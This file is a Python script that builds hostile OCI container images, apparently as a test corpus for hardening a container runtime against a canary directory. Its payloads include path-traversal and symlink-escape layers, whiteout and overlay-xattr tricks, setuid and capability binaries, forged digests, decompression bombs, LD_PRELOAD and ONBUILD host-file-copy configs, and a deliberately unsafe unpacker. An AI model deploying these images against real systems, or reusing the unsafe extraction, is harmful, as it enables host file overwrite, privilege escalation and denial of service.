#!/usr/bin/env python3
"""Hostile images, and what a careless program makes of their layers.

usage: images.py make CANARY OUT    for each attack OUT/NAME.tar, an OCI archive of the image NAME, and OUT/NAME.layer, its last
                                    layer; CANARY is the directory of the host that the attacks are about
       images.py unpack LAYER DIR   unpacks a layer as who trusts its names does

The base of images that are to be run is the archive of a root file system on the standard input of `make`.
"""
import gzip
import hashlib
import io
import json
import lzma
import os
import shutil
import struct
import sys
import tarfile
import zlib

DIR, LINK, SYMLINK, CHAR, BLOCK = tarfile.DIRTYPE, tarfile.LNKTYPE, tarfile.SYMTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE
ESCAPES = "\x1b[31mred\x1b]0;title\x07\u009b2J\x7f\r"
# cap_sys_admin=ep
CAPABILITY = (b"\x01\0\0\x02\0\0\x20\0" + 12 * b"\0").decode()


def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def member(name, kind=tarfile.REGTYPE, link="", data=b"", **fields):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mode = kind, link, len(data), 0o755 if kind == DIR else 0o644
    for key, value in fields.items():
        setattr(info, key, value)
    return info, data


def tar(*members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


class Image:
    """An OCI archive; what is changed in `descriptors` or `manifest` before it is written may lie."""

    def __init__(self, layers, config=None, diff_ids=None, suffix="", compress=None, **document):
        self.blobs = {}
        compress = compress or (lambda data: data)
        self.config = {"architecture": "amd64", "os": "linux", "config": config or {}, **document,
                       "rootfs": {"type": "layers", "diff_ids": diff_ids or [digest(layer) for layer in layers]}}
        self.layers = [self.blob("layer.v1.tar" + suffix, compress(layer)) for layer in layers]

    def blob(self, kind, data):
        self.blobs[digest(data)] = data
        return {"mediaType": "application/vnd.oci.image." + kind, "digest": digest(data), "size": len(data)}

    def document(self, kind, value):
        return self.blob(kind, json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image." + kind, **value}).encode())

    def manifest(self):
        config = self.blob("config.v1+json", json.dumps(self.config).encode())
        return self.document("manifest.v1+json", {"config": config, "layers": self.layers})

    def write(self, path, name, target=None):
        index = {**(target or self.manifest()), "annotations": {"org.opencontainers.image.ref.name": name + ":latest"}}
        with tarfile.open(path, "w") as archive:
            for where, data in [("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'),
                                ("index.json", json.dumps({"schemaVersion": 2, "manifests": [index]}).encode()),
                                *(("blobs/" + key.replace(":", "/"), data) for key, data in self.blobs.items())]:
                archive.addfile(*(lambda info, data: (info, io.BytesIO(data)))(*member(where, data=data)))


# ---- layers ------------------------------------------------------------------------


def layers(canary):
    evil = b"evil\n"
    out, file = member("out", SYMLINK, canary), canary + "/file"
    xattr = lambda name, value: {"pax_headers": {"SCHILY.xattr." + name: value}}
    return {
        "dotdot": [member("../../canary/new", data=evil)],
        "inner-dotdot": [member("a/", DIR), member("a/../../../canary/new", data=evil)],
        "absolute": [member(canary + "/new", data=evil)],
        "through-link": [out, member("out/new", data=evil)],
        "through-links": [member("a", SYMLINK, "b/dir/.."), member("b", SYMLINK, canary), member("a/new", data=evil)],
        "onto-link": [member("x", SYMLINK, file), member("x", data=evil)],
        "mode-of-link": [out, member("out/", DIR, mode=0o777)],
        "hard-link": [member("x", LINK, file), member("x", data=evil)],
        "hard-link-dotdot": [member("x", LINK, "../../canary/file"), member("x", data=evil)],
        "hard-link-through": [out, member("x", LINK, "out/file"), member("x", data=evil)],
        "swapped": [member("d/", DIR), member("d/x", data=evil), member("d", SYMLINK, canary), member("d/new", data=evil)],
        "whiteout-dotdot": [member("../../canary/.wh.file")],
        "whiteout-through": [out, member("out/.wh.file")],
        "whiteout-of-parent": [member("d/", DIR), member("d/.wh...")],
        "opaque-through": [out, member("out/.wh..wh..opq")],
        "pax-path": [member("innocent", data=evil, pax_headers={"path": "../../canary/new"})],
        "pax-link": [member("x", LINK, "innocent", pax_headers={"linkpath": file}), member("x", data=evil)],
        "overlay-opaque": [member("etc/", DIR, **xattr("trusted.overlay.opaque", "y"))],
        "overlay-redirect": [member("etc/", DIR, **xattr("trusted.overlay.redirect", "/bin"))],
        "overlay-user": [member("etc/", DIR, **xattr("user.overlay.opaque", "y"))],
        "overlay-libarchive": [member("etc/", DIR, pax_headers={"LIBARCHIVE.xattr.trusted.overlay.opaque": "eQ"})],
        "long-name": [member("n" * 300, data=evil)],
        "long-path": [member("/".join(["d" * 200] * 30), data=evil)],
        "deep": [member("d/" * 4000 + "f", data=evil)],
        "root-link": [member("./", SYMLINK, canary), member("new", data=evil)],
    }


def unpack(archive, root):
    """Names are what they say; links are followed. tarfile's own caution is left out on purpose."""
    for info in tarfile.open(archive):
        path = os.path.join(root, info.name.removeprefix("./")).rstrip("/")
        parent, name = os.path.split(path)
        os.makedirs(parent, exist_ok=True)
        if name == ".wh..wh..opq":
            for entry in os.listdir(parent):
                remove(os.path.join(parent, entry))
        elif name.startswith(".wh."):
            remove(os.path.join(parent, name[4:]))
        elif info.isdir():
            os.makedirs(path, exist_ok=True)
            os.chmod(path, info.mode)
        elif info.issym():
            remove(path)
            os.symlink(info.linkname, path)
        elif info.islnk():
            os.link(os.path.join(root, info.linkname), path)
        elif info.isdev():
            os.mknod(path, 0o600 | (0o020000 if info.ischr() else 0o060000), os.makedev(info.devmajor, info.devminor))
        else:
            with open(path, "wb") as file:
                file.write(tarfile.open(archive).extractfile(info).read())
        for key, value in info.pax_headers.items():
            if key.startswith("SCHILY.xattr."):
                os.setxattr(path, key[13:], value.encode(errors="surrogateescape"))


def remove(path):
    if os.path.isdir(path) and not os.path.islink(path):
        shutil.rmtree(path)
    elif os.path.lexists(path):
        os.unlink(path)


# ---- compressed --------------------------------------------------------------------


def xz(data, dictionary=None):
    """With DICTIONARY, the property of the LZMA2 filter, in the block's header."""
    stream = bytearray(lzma.compress(data, lzma.FORMAT_XZ, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 65536}]))
    if dictionary is not None:
        size = (stream[12] + 1) * 4
        at = stream.index(b"\x21\x01", 12) + 2
        stream[at] = dictionary
        stream[12 + size - 4:12 + size] = struct.pack("<I", zlib.crc32(bytes(stream[12:12 + size - 4])))
    return bytes(stream)


def zstd(data, window=0x58):
    """Raw blocks behind a header that asks for a window of 2 ** (10 + (WINDOW >> 3)) bytes."""
    out = b"\x28\xb5\x2f\xfd\x00" + bytes([window])
    blocks = [data[i:i + 65536] for i in range(0, len(data), 65536)]
    for i, block in enumerate(blocks):
        out += struct.pack("<I", len(block) << 3 | (i == len(blocks) - 1))[:3] + block
    return out


def gnu_sparse(real):
    """A file of REAL bytes, none of which is in the archive."""
    info, data = member("huge", data=b"1\n0\n0\n" + 506 * b"\0",
                        pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "huge", "GNU.sparse.realsize": str(real)})
    return tar((info, data))


# ---- images ------------------------------------------------------------------------


def make(canary, out, base):
    write = lambda name, image, target=None: image.write(f"{out}/{name}.tar", name, target)
    run = lambda config=None, **rest: Image([base], {"Env": ["PATH=/bin"], "Cmd": ["true"], **(config or {})}, **rest)
    for name, members in layers(canary).items():
        layer = tar(*members)
        with open(f"{out}/{name}.layer", "wb") as file:
            file.write(layer)
        write(name, Image([layer]))

    link, through = tar(member("data", SYMLINK, canary)), tar(member("data/new", data=b"evil\n"))
    with open(f"{out}/across.layer", "wb") as file:
        file.write(tar(member("data", SYMLINK, canary), member("data/new", data=b"evil\n")))
    write("across", Image([base, link, through], {"Cmd": ["cat", "/data/new"], "Env": ["PATH=/bin"]}))
    devices = tar(member("bin/kmsg", CHAR, devmajor=1, devminor=11, mode=0o666))
    write("devices", Image([base, devices], {"Env": ["PATH=/bin"]}))
    powers = tar(member("suid", data=open("/bin/busybox", "rb").read(), mode=0o4755),
                 member("capable/busybox", data=open("/bin/busybox", "rb").read(), mode=0o755, pax_headers={"SCHILY.xattr.security.capability": CAPABILITY}))
    write("powers", Image([base, powers], {"Env": ["PATH=/bin"]}))

    # what says what it is not
    honest, evil = tar(member("etc/", DIR), member("etc/who", data=b"honest\n")), tar(member("etc/", DIR), member("etc/who", data=b"evil\n"))
    write("honest", Image([base, honest], {"Env": ["PATH=/bin"], "Cmd": ["cat", "/etc/who"]}))
    write("poison", Image([base, evil], {"Env": ["PATH=/bin"]}, diff_ids=[digest(base), digest(honest)]))
    lie = Image([base, evil])
    lie.blobs[lie.layers[1]["digest"]] = honest
    write("wrong-digest", lie)
    lie = Image([base, evil])
    lie.layers[1]["size"] -= 512
    write("wrong-size", lie)
    for name, text in {"traversing-digest": "sha256:../../../../../../../../etc/passwd", "short-digest": "sha256:ab", "odd-digest": "md5:" + 32 * "a",
                       "upper-digest": digest(evil).upper().replace("SHA256", "sha256"), "newline-digest": digest(evil) + "\n"}.items():
        lie = Image([evil])
        lie.layers[0]["digest"] = text
        write(name, lie)
    lie = Image([base, evil], diff_ids=[digest(base)])
    write("fewer-diff-ids", lie)

    # documents that are too much
    nested = run()
    target = nested.manifest()
    for _ in range(6):
        target = nested.document("index.v1+json", {"manifests": [{**target, "platform": {"os": "linux", "architecture": "amd64"}}] * 100})
    write("nested", nested, target)
    huge = run()
    write("huge-index", huge, huge.document("index.v1+json", {"manifests": [huge.manifest()] * 40000}))
    deep = run()
    write("deep-json", deep, deep.blob("manifest.v1+json", b'{"schemaVersion":2,"x":' + b"[" * 1000000 + b"]" * 1000000 + b"}"))
    many = Image([tar()] * 2000)
    write("many-layers", many)
    twice = run()
    twice.blobs = {}
    twice.layers = [twice.blob("layer.v1.tar", base)]
    config = twice.blob("config.v1+json", json.dumps(twice.config).encode())
    write("twice", twice, twice.blob("manifest.v1+json", json.dumps(
        {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": twice.layers}).replace(
            '"layers"', '"layers": [], "layers"').encode()))

    # compressed
    small = tar(member("f", data=b"f\n"))
    for name, suffix, compress in [("xz-small", "", xz), ("xz-window", "", lambda data: xz(data, 40)), ("zstd-small", "+zstd", zstd),
                                   ("zstd-window", "+zstd", lambda data: zstd(data, 0xa8))]:
        write(name, Image([small], suffix=suffix, compress=compress))
    write("sparse", Image([gnu_sparse(1 << 62)]))
    bomb = tar(*(member(f"f{i}", data=bytes(16 << 20)) for i in range(8)))
    write("bomb", Image([bomb], suffix="+gzip", compress=lambda data: gzip.compress(data, 1)))

    # configurations
    foreign = run()
    foreign.blobs.pop(foreign.layers[0]["digest"])
    foreign.layers[0].update(mediaType="application/vnd.oci.image.layer.nondistributable.v1.tar", urls=[os.environ.get("FOREIGN", "http://127.0.0.1:9/")])
    write("foreign", foreign)
    for name, config in {
        "cwd-descriptor": {"WorkingDir": "/proc/self/fd/7", "Cmd": ["cat", "../../../../../../../.." + canary + "/file"]},
        "cwd-relative": {"WorkingDir": "../../../.."},
        "volume-dotdot": {"Volumes": {"/../../" + canary: {}}},
        "volume-root": {"Volumes": {"/": {}}},
        "volume-proc": {"Volumes": {"/proc": {}}},
        "volume-proc-part": {"Volumes": {"/proc/sys": {}}},
        "user-newline": {"User": "0:0\nroot"},
        "user-path": {"User": "../../" + canary + "/file"},
        "user-overflow": {"User": "4294967295"},
        "env-runtime": {"Env": ["PATH=/bin", "LD_PRELOAD=/evil.so", "_BIVY=1", "BIVY_TRANSFER=/evil", "NOTIFY_SOCKET=/evil"], "Cmd": ["true"]},
        "stop-signal": {"StopSignal": "../../x"},
        "health": {"Healthcheck": {"Test": ["CMD-SHELL", "true"], "Interval": 1}},
        "onbuild-from": {"OnBuild": ["FROM scratch"]},
        "onbuild-nested": {"OnBuild": ["ONBUILD RUN true"]},
        "onbuild-host": {"OnBuild": ["COPY ../../../../../../.." + canary + "/file /stolen"]},
    }.items():
        write(name, run(config))
    lines = [{"created_by": "RUN " + ESCAPES + "\nFORGED  ROW", "comment": ESCAPES + "\nFORGED  ROW", "author": ESCAPES}]
    write("escapes", run({"Cmd": ["echo", ESCAPES], "Labels": {"label": ESCAPES}, "Env": ["PATH=/bin", "A=" + ESCAPES]},
                         history=lines, author=ESCAPES, created="2020-01-01T00:00:00Z"))


if len(sys.argv) == 4 and sys.argv[1] == "make":
    make(sys.argv[2], sys.argv[3], sys.stdin.buffer.read())
elif len(sys.argv) == 4 and sys.argv[1] == "unpack":
    unpack(sys.argv[2], sys.argv[3])
else:
    sys.exit(__doc__)
